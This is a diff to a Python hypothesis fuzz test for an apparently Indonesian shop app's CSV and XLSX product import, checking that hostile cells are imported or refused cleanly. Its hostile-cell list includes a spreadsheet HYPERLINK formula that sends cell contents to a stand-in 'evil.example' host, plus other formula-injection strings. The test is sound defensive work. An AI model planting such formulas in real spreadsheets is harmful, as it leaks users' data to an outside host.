@@ -8,7 +8,7 @@ import io
 import tempfile
 from pathlib import Path
 
-from hypothesis import HealthCheck, given, settings
+from hypothesis import HealthCheck, event, given, settings
 from hypothesis import strategies as st
 from openpyxl import Workbook
 
@@ -58,26 +58,27 @@ def _state():
     )
 
 
-def _check(seller, path: Path) -> None:
+def _check(seller, path: Path) -> str:
     before = _state()
     try:
         preview = table_io.preview_import(seller, path)
     except ShopDeskError as exc:
         assert exc.message
         assert _state() == before
-        return
+        return "refused"
     try:
         result = table_io.apply_import(seller, path, skip_rejected=True)
     except ShopDeskError as exc:
         assert exc.message
         assert _state() == before
-        return
+        return "refused when applied"
     products, variants, _movements, imports = _state()
     assert variants - before[1] == result.variants_created
     assert products - before[0] == result.products_created
     assert result.variants_created == preview.count(table_io.CREATE)
     assert imports - before[3] == 1
     assert stock.check(seller).ok
+    return "imported" if result.variants_created or result.variants_updated else "nothing to do"
 
 
 @FUZZ
@@ -160,3 +161,146 @@ def test_mostly_valid_rows_import_correctly(seller, rows):
         path = Path(folder) / "fuzz.csv"
         path.write_bytes(buffer.getvalue().encode("utf-8"))
         _check(seller, path)
+
+
+# --- deep: valid-looking tables with hostile cells (examples: the hypothesis profile) ---
+
+HOSTILE_CELLS = st.sampled_from(
+    [
+        '=HYPERLINK("http://evil.example/?x="&A1,"klik")',
+        "+1+1",
+        "-2+3",
+        "@SUM(A1:A9)",
+        "\t=1+1",
+        "'=1+1",
+        "1" * 5000,  # past what int() takes from text
+        "9" * 25,
+        "١٥٠٠٠",
+        "１５０００",
+        "1e308",
+        "-0",
+        "NaN",
+        "0x10",
+        "#DIV/0!",
+        "TRUE",
+        "\u00a0",
+        "\x00",
+        "\u202eKopi",
+        "😀" * 300,
+        "x" * 25_000,  # past the longest cell a table may hold
+        "\r\n",
+        '"',
+        ";",
+    ]
+)
+PLAUSIBLE = {
+    "sku": st.sampled_from(["KOPI-0001", "KOPI-0002", "MADU-7", "", "kopi-0001"]),
+    "name": st.sampled_from(["Kopi Robusta", "Keripik Pisang", "Madu Hutan", "Kopi Robusta"]),
+    "category": st.sampled_from(["Kopi", "Camilan", ""]),
+    "price": st.sampled_from(["15000", "Rp 15.000", "15rb", "1,5jt", "Rp85.000,-", "22.500"]),
+    "cost": st.sampled_from(["", "9000", "Rp 7.500"]),
+    "stock": st.integers(0, 60).map(str),
+    "barcode": st.sampled_from(["", "2000000000015", "8991234567890", "12345"]),
+    "halal": st.sampled_from(["ya", "tidak", "", "yes"]),
+    "is_food": st.sampled_from(["ya", "tidak", ""]),
+    "variant_name": st.sampled_from(["", "Rasa", "Ukuran"]),
+    "variant_option": st.sampled_from(["", "Original", "Pedas", "250 g"]),
+    "weight_g": st.sampled_from(["", "250", "1000"]),
+}
+
+
+@st.composite
+def tables(draw) -> tuple[list[str], list[list[object]]]:
+    """A header of real column names (English, Indonesian aliases, odd case and spaces)
+    and rows of plausible cells, with hostile ones at a rate drawn per table."""
+    names = ["name", "price", *draw(st.lists(st.sampled_from(sorted(PLAUSIBLE)), max_size=5))]
+    aliases = {v: k for k, v in table_io.ALIASES.items()}
+    header = []
+    for name in dict.fromkeys(names):
+        shown = aliases.get(name, name) if draw(st.booleans()) else name
+        header.append(draw(st.sampled_from([shown, shown.upper(), f" {shown.title()} "])))
+    rate = draw(st.sampled_from([0.0, 0.05, 0.2, 0.6]))
+    rows = []
+    for _n in range(draw(st.integers(1, 8))):
+        row: list[object] = []
+        for name in dict.fromkeys(names):
+            hostile = rate and draw(st.floats(0, 1)) < rate
+            row.append(draw(HOSTILE_CELLS if hostile else PLAUSIBLE.get(name, st.just(""))))
+        rows.append(row)
+    return header, rows
+
+
+class Upload:
+    """A table as a seller's file (a plain class: hypothesis reports it in one line)."""
+
+    def __init__(self, name: str, data: bytes, how: str) -> None:
+        self.name, self.data, self.how = name, data, how
+
+    def __repr__(self) -> str:
+        return f"Upload({self.name}, {len(self.data)} bytes, {self.how})"
+
+
+def _csv_bytes(header, rows, delimiter: str, encoding: str) -> bytes:
+    buffer = io.StringIO()
+    writer = csv.writer(buffer, delimiter=delimiter)
+    writer.writerow(header)
+    writer.writerows(rows)
+    return buffer.getvalue().encode(encoding, errors="replace")
+
+
+def _xlsx_bytes(header, rows, extra_sheet: bool) -> bytes:
+    wb = Workbook()
+    ws = wb.active
+    ws.append(header)
+    for row in rows:  # a text starting with "=" becomes a live formula cell here
+        ws.append([_xlsx_safe(v) if isinstance(v, str) else v for v in row])
+    if extra_sheet:
+        wb.create_sheet("Lain").append(["x", "y"])
+    buffer = io.BytesIO()
+    wb.save(buffer)
+    return buffer.getvalue()
+
+
+@st.composite
+def uploads(draw) -> Upload:
+    header, rows = draw(tables())
+    how = draw(st.sampled_from(["csv", "csv", "xlsx", "xlsx", "damaged csv", "damaged xlsx"]))
+    if how.endswith("csv"):
+        delimiter = draw(st.sampled_from([",", ";", "\t"]))
+        encoding = draw(st.sampled_from(["utf-8", "utf-8-sig", "cp1252", "utf-16"]))
+        data, name = _csv_bytes(header, rows, delimiter, encoding), "produk.csv"
+    else:
+        data, name = _xlsx_bytes(header, rows, draw(st.booleans())), "produk.xlsx"
+    if how.startswith("damaged"):
+        body = bytearray(data)
+        for _n in range(draw(st.integers(1, 3))):
+            at = draw(st.integers(0, len(body) - 1))
+            body[at : at + 4] = draw(st.binary(min_size=1, max_size=4))
+        data = bytes(body[: draw(st.integers(1, len(body)))])
+    return Upload(name, data, how)
+
+
+def _files(root: Path) -> set[str]:
+    return {str(p.relative_to(root)) for p in root.rglob("*") if p.is_file()}
+
+
+@settings(suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow])
+@given(upload=uploads())
+def test_valid_looking_tables_with_hostile_cells(seller, upload):
+    """A result that matches its preview, or a clear refusal that writes nothing:
+    no row, no stray file (a refused import after its safety backup leaves only
+    that whole backup)."""
+    from shopdesk import backup, paths
+
+    home = paths.data_dir()
+    before_files = _files(home)
+    with tempfile.TemporaryDirectory() as folder:
+        path = Path(folder) / upload.name
+        path.write_bytes(upload.data)
+        event(_check(seller, path))
+        assert [p.name for p in Path(folder).iterdir()] == [upload.name]
+    new = _files(home) - before_files
+    stray = [n for n in new if not n.startswith("backups/") or not n.endswith(".zip")]
+    assert [n for n in stray if not n.startswith("logs/")] == []
+    for name in new - set(stray):
+        backup.verify(home / name)
